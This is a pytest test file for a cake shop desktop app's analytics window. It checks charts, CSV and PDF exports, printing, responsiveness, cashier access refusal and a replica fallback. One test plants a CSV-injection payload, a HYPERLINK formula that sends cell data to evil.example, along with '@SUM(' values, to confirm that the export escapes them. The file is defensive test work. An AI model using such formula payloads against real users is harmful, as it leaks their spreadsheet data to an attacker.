"""The analytics window: presets, chart and top cakes, exports, responsiveness, shift report."""

from __future__ import annotations

import csv
import re
import time
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCharts import QBarSeries
from PySide6.QtCore import QLocale, QSize, Qt, QTimer
from PySide6.QtGui import QColor
from PySide6.QtPdf import QPdfDocument
from PySide6.QtPrintSupport import QPrintDialog, QPrinter
from PySide6.QtWidgets import QDialog, QFileDialog
from sqlalchemy import text

from cakeshop_desktop.core.db.engine import make_engine
from cakeshop_desktop.core.services import reports
from cakeshop_desktop.core.types.reports import ReportGrain, SalesReport
from cakeshop_desktop.gui import report_export
from cakeshop_desktop.gui.context import ShopContext
from cakeshop_desktop.gui.file_dialogs import documents_folder
from cakeshop_desktop.gui.models.base import RAW_ROLE
from cakeshop_desktop.gui.models.report_models import TopCakesModel
from cakeshop_desktop.gui.widgets import report_charts
from cakeshop_desktop.gui.windows.analytics_window import AnalyticsWindow, preset_period
from cakeshop_desktop.gui.workers import Workers
from tests.conftest import Shop
from tests.integration.report_data import build_history

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
WAIT_MS = 20_000


@pytest.fixture
def workers(qapp: Any) -> Iterator[Workers]:
    pool = Workers()
    yield pool
    pool.wait_for_done()


@pytest.fixture
def history(shop: Shop) -> Shop:
    today = date.today()
    build_history(
        shop.uow,
        [shop.cashier.id, shop.admin.id],
        count=150,
        first_day=today - timedelta(days=75),
        last_day=today,
    )
    return shop


def _open(qtbot: Any, shop: Shop, workers: Workers) -> AnalyticsWindow:
    return _open_with(qtbot, ShopContext(shop.uow.engine, workers, shop.admin))


def test_last_month_in_two_clicks(
    qtbot: Any, qtmodeltester: Any, history: Shop, workers: Workers
) -> None:
    window = _open(qtbot, history, workers)
    assert window.objectName() == "analyticsWindow"
    with qtbot.waitSignal(window.report_shown, timeout=WAIT_MS) as shown:
        qtbot.mouseClick(window.ui.presetLastMonthButton, Qt.MouseButton.LeftButton)
    report: SalesReport = shown.args[0]
    first, last = preset_period("last_month", date.today())
    assert window.period == (first, last) == (report.date_from, report.date_to)
    assert report.grain is ReportGrain.DAY
    assert report.orders > 0

    series = window.ui.revenueChart.chart().series()
    assert len(series) == 1 and isinstance(series[0], QBarSeries)
    bars = series[0].barSets()[0]
    assert bars.count() == (last - first).days + 1
    scale = 1000 if max(p.revenue for p in report.revenue_series) >= 100_000 else 1
    assert [bars.at(i) for i in range(bars.count())] == pytest.approx(
        [float(p.revenue) / scale for p in report.revenue_series]
    )

    view = window.ui.topCakesView
    model = view.model()
    assert model.rowCount() == len(report.top_by_revenue) > 0
    names = [model.index(row, TopCakesModel.COL_NAME).data() for row in range(model.rowCount())]
    assert names == [cake.name for cake in report.top_by_revenue]
    window.ui.topCakesRankCombo.setCurrentIndex(1)
    names = [model.index(row, TopCakesModel.COL_NAME).data() for row in range(model.rowCount())]
    assert names == [cake.name for cake in report.top_by_quantity]
    for checked in (
        window.top_cakes_model,
        model,
        window.series_model,
        window.categories_model,
        window.kinds_model,
        window.hours_model,
        window.weekdays_model,
        window.cancellations_model,
    ):
        qtmodeltester.check(checked)
    assert window.ui.revenueValueLabel.toolTip().startswith("Revenue is the total")
    assert window.ui.periodFromEdit.accessibleName() and window.ui.topCakesView.accessibleName()


def test_exports_csv_and_pdf(
    qtbot: Any, history: Shop, workers: Workers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    window = _open(qtbot, history, workers)
    target = {"path": ""}
    suggested: list[str] = []
    monkeypatch.setattr(
        QFileDialog,
        "getSaveFileName",
        staticmethod(lambda *args, **kw: suggested.append(args[2]) or (target["path"], "")),
    )
    target["path"] = str(tmp_path / "sales.csv")
    qtbot.mouseClick(window.ui.exportCsvButton, Qt.MouseButton.LeftButton)
    raw = (tmp_path / "sales.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read Cyrillic
    decimal = QLocale().decimalPoint()
    delimiter = ";" if decimal == "," else ","
    lines = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=delimiter))
    start = lines.index(["Top cakes by revenue"])
    header, body = (
        lines[start + 1],
        lines[start + 2 : start + 2 + window.top_cakes_model.rowCount()],
    )
    view = window.ui.topCakesView.model()
    assert header == [
        view.headerData(c, Qt.Orientation.Horizontal) for c in range(view.columnCount())
    ]
    for row, cells in enumerate(body):
        assert cells[TopCakesModel.COL_NAME] == view.index(row, TopCakesModel.COL_NAME).data()
        assert (
            cells[TopCakesModel.COL_CATEGORY] == view.index(row, TopCakesModel.COL_CATEGORY).data()
        )
        assert int(cells[TopCakesModel.COL_QUANTITY]) == view.index(
            row, TopCakesModel.COL_QUANTITY
        ).data(RAW_ROLE)
        cake = window.report.top_by_revenue[row]  # type: ignore[union-attr]
        assert cells[TopCakesModel.COL_REVENUE] == f"{cake.revenue:.2f}".replace(".", decimal)
    assert ["Cancellations"] in lines and ["Revenue by category"] in lines

    target["path"] = str(tmp_path / "sales.pdf")
    qtbot.mouseClick(window.ui.exportPdfButton, Qt.MouseButton.LeftButton)
    pdf = (tmp_path / "sales.pdf").read_bytes()
    assert pdf.startswith(b"%PDF") and len(pdf) > 10_000
    assert b"/Image" in pdf  # the chart went in
    assert [Path(path).parent for path in suggested] == [documents_folder()] * 2
    assert Path(suggested[1]).name.startswith("sales_") and suggested[1].endswith(".pdf")


def _bar_runs(row: list[bool]) -> int:
    return sum(1 for x, on in enumerate(row) if on and (x == 0 or not row[x - 1]))


def test_the_pdf_shows_every_day_of_a_month_on_the_page(
    qtbot: Any, history: Shop, workers: Workers, tmp_path: Path
) -> None:
    window = _open(qtbot, history, workers)
    window.resize(700, 500)  # the chart on paper does not depend on the window
    with qtbot.waitSignal(window.report_shown, timeout=WAIT_MS):
        window.apply_preset("last_month")
    report = window.report
    assert report is not None and len(report.revenue_series) >= 28
    days_sold = sum(1 for point in report.revenue_series if point.revenue > 0)
    pdf = QPdfDocument()
    pdf.load(str(window.export_pdf(tmp_path / "month.pdf")))
    points = pdf.pagePointSize(0)
    scale = 2  # 144 dpi
    page = pdf.render(0, QSize(int(points.width() * scale), int(points.height() * scale)))
    bar = QColor(report_charts.BAR_COLOUR)

    def is_bar(x: int, y: int) -> bool:
        c = page.pixelColor(x, y)
        return (
            abs(c.red() - bar.red()) + abs(c.green() - bar.green()) + abs(c.blue() - bar.blue())
            < 60
        )

    rows = [y for y in range(page.height()) if any(is_bar(x, y) for x in range(0, page.width(), 2))]
    assert rows, "no chart on the first page"
    base = max(rows) - 2  # just above the axis every bar with sales touches
    row = [is_bar(x, base) for x in range(page.width())]
    assert _bar_runs(row) == days_sold  # the last days of the month are on the page too
    right_margin = 15 / 25.4 * 72 * scale
    assert max(x for x, on in enumerate(row) if on) < page.width() - right_margin


def test_ctrl_p_prints_the_report_on_the_chosen_printer(
    qtbot: Any, history: Shop, workers: Workers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    window = _open(qtbot, history, workers)
    target = tmp_path / "printed.pdf"

    def choose_a_pdf_printer(dialog: QPrintDialog) -> int:
        dialog.printer().setOutputFormat(QPrinter.OutputFormat.PdfFormat)
        dialog.printer().setOutputFileName(str(target))
        return QDialog.DialogCode.Accepted.value

    monkeypatch.setattr(report_export.QPrintDialog, "exec", choose_a_pdf_printer)
    window.activateWindow()
    qtbot.waitUntil(window.isActiveWindow)
    qtbot.keyClick(window, Qt.Key.Key_P, Qt.KeyboardModifier.ControlModifier)
    qtbot.waitUntil(target.exists, timeout=WAIT_MS)
    pdf = QPdfDocument()
    pdf.load(str(target))
    assert pdf.pageCount() >= 1
    assert "Sales report" in pdf.getAllText(0).text()


def test_the_csv_export_keeps_typed_text_from_running_as_a_formula(
    qtbot: Any, history: Shop, workers: Workers, tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Медовик")'
    with history.uow.engine.begin() as db:
        db.execute(text("UPDATE categories SET name = '@SUM(' || id || ')'"))
        db.execute(text("UPDATE cakes SET name = :n"), {"n": hostile})
    window = _open(qtbot, history, workers)
    with qtbot.waitSignal(window.report_shown, timeout=WAIT_MS):
        window.set_period(date.today() - timedelta(days=60), date.today())
    path = window.export_csv(tmp_path / "sales.csv")
    decimal = QLocale().decimalPoint()
    rows = list(
        csv.reader(
            path.read_text(encoding="utf-8-sig").splitlines(),
            delimiter=";" if decimal == "," else ",",
        )
    )
    start = rows.index(["Top cakes by revenue"]) + 2
    first = rows[start]
    assert first[TopCakesModel.COL_NAME] == "'" + hostile
    assert first[TopCakesModel.COL_CATEGORY].startswith("'@SUM(")
    cake = window.report.top_by_revenue[0]  # type: ignore[union-attr]
    assert first[TopCakesModel.COL_REVENUE] == f"{cake.revenue:.2f}".replace(".", decimal)
    live = [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not re.fullmatch(r"-?\d+(?:[.,]\d+)?", cell)
    ]
    assert not live  # no cell a spreadsheet would run


def test_window_stays_responsive_and_drops_stale_results(
    qtbot: Any, history: Shop, workers: Workers, monkeypatch: pytest.MonkeyPatch
) -> None:
    window = _open(qtbot, history, workers)
    real = reports.sales_report
    slow_day = date.today() - timedelta(days=40)

    def slow(uow: Any, actor: Any, date_from: date, date_to: date, *rest: Any) -> SalesReport:
        time.sleep(1.5 if date_from == slow_day else 0.5)
        return real(uow, actor, date_from, date_to, *rest)

    monkeypatch.setattr(reports, "sales_report", slow)
    ticks = []
    timer = QTimer()
    timer.setInterval(20)
    timer.timeout.connect(lambda: ticks.append(1))
    timer.start()
    window.set_period(slow_day, date.today())  # slow, and stale by the time it lands
    assert window.is_computing and window.ui.busyBar.isVisible()
    wanted = (date.today() - timedelta(days=10), date.today())
    with qtbot.waitSignal(window.report_shown, timeout=WAIT_MS) as shown:
        window.set_period(*wanted)
    timer.stop()
    assert (shown.args[0].date_from, shown.args[0].date_to) == wanted
    assert len(ticks) >= 10  # the event loop kept turning while the report was computed
    # the stale answer arrives after the wanted one, and is dropped
    qtbot.waitUntil(lambda: workers.pending == 0, timeout=WAIT_MS)
    assert window.report is not None
    assert (window.report.date_from, window.report.date_to) == wanted
    assert not window.is_computing and not window.ui.busyBar.isVisible()


def test_a_long_report_says_why_it_takes_a_while(
    qtbot: Any, history: Shop, workers: Workers, monkeypatch: pytest.MonkeyPatch
) -> None:
    window = _open(qtbot, history, workers)
    real = reports.sales_report

    def slow(uow: Any, actor: Any, date_from: date, date_to: date, *rest: Any) -> SalesReport:
        time.sleep(0.8)  # a first report summarising years of orders, in short
        return real(uow, actor, date_from, date_to, *rest)

    monkeypatch.setattr(reports, "sales_report", slow)
    window._slow.setInterval(200)
    window.refresh()
    assert window.ui.busyLabel.text() == "Computing…"
    status = window.statusBar()
    qtbot.waitUntil(lambda: "takes longer" in status.currentMessage(), timeout=WAIT_MS)
    qtbot.waitUntil(lambda: not window.is_computing, timeout=WAIT_MS)
    assert window.ui.busyLabel.text() == "" and "takes longer" not in status.currentMessage()


def test_a_cashier_sees_a_refusal_not_a_report(qtbot: Any, shop: Shop, workers: Workers) -> None:
    window = AnalyticsWindow(ShopContext(shop.uow.engine, workers, shop.cashier))
    qtbot.addWidget(window)
    window.show()
    qtbot.waitUntil(lambda: window.ui.errorLabel.isVisible(), timeout=WAIT_MS)
    assert "cashier" in window.ui.errorLabel.text()
    assert not window.ui.exportCsvButton.isEnabled()


def test_shift_report_dialog(qtbot: Any, history: Shop, workers: Workers, tmp_path: Path) -> None:
    window = _open(qtbot, history, workers)
    dialog = window.open_shift_report()
    assert dialog.objectName() == "shiftReportDialog"
    qtbot.waitUntil(lambda: dialog.report is not None, timeout=WAIT_MS)
    combo = dialog.ui.cashierCombo
    assert combo.count() == 2  # the admin and the cashier
    with qtbot.waitSignal(dialog.report_shown, timeout=WAIT_MS) as shown:
        combo.setCurrentIndex(combo.findData(history.cashier.id))
    assert shown.args[0].cashier_id == history.cashier.id
    assert "Demo cashier" in dialog.ui.shiftReportBrowser.toPlainText()
    pdf = Path(dialog.save_pdf(str(tmp_path / "z.pdf")))
    assert pdf.read_bytes().startswith(b"%PDF")
    dialog.close()


def test_a_reports_replica_that_does_not_answer_is_said_and_the_shop_server_read(
    qtbot: Any, history: Shop, workers: Workers
) -> None:
    window = _open(qtbot, history, workers)
    assert not window.ui.reportSourceLabel.isVisible()  # no replica: nothing to say
    own = window.report

    dead = make_engine("mysql+pymysql://reports:pw@127.0.0.1:1/cakeshop")  # nobody listens
    ctx = ShopContext(history.uow.engine, workers, history.admin, replica_engine=dead)
    try:
        with_replica = _open_with(qtbot, ctx)
        label = with_replica.ui.reportSourceLabel
        assert label.isVisible()
        assert label.text() == "The reports replica does not answer: read from the shop server"
        assert (
            with_replica.report.revenue == own.revenue and with_replica.report.orders == own.orders
        )

        dialog = with_replica.open_shift_report()
        qtbot.waitUntil(lambda: dialog.report is not None, timeout=WAIT_MS)
        assert dialog.ui.shiftSourceLabel.isVisible()
        assert "does not answer" in dialog.ui.shiftSourceLabel.text()
        dialog.close()
    finally:
        dead.dispose()


def _open_with(qtbot: Any, ctx: ShopContext) -> AnalyticsWindow:
    window = AnalyticsWindow(ctx)
    qtbot.addWidget(window)
    window.show()
    qtbot.waitUntil(lambda: window.report is not None and not window.is_computing, timeout=WAIT_MS)
    return window
